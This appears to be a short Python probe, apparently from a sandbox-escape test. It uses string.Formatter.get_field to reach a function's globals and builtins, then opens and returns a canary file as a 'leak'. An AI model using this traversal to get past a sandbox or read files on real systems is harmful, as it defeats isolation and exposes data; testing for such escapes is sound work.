# route: string.Formatter.get_field gives the object itself, not its text
from string import Formatter


def execute(testData):
    found, _ = Formatter().get_field("0.__globals__", (execute,), {})
    return {"leak": found["__builtins__"]["open"](testData["canary_path"]).read()}
